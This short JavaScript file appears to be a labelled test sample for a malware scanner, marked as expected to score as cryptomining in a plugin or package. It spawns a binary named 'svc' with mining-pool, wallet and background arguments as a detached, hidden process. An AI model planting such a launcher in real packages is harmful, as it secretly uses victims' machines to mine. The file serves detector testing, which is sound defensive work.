// expect: category=cryptomining min=95 context=plugin,package
// why: a miner binary is started with pool, wallet and donate-level arguments, detached.
const { spawn } = require('child_process');
const path = require('path');

const bin = path.join(__dirname, 'bin', process.platform === 'win32' ? 'svc.exe' : 'svc');
const args = ['-o', 'pool.example:443', '-u', '48ExampleNotARealAddress', '-p', 'x',
  '--donate-level=0', '--cpu-max-threads-hint=50', '--background', '--tls'];

spawn(bin, args, { detached: true, stdio: 'ignore', windowsHide: true }).unref();
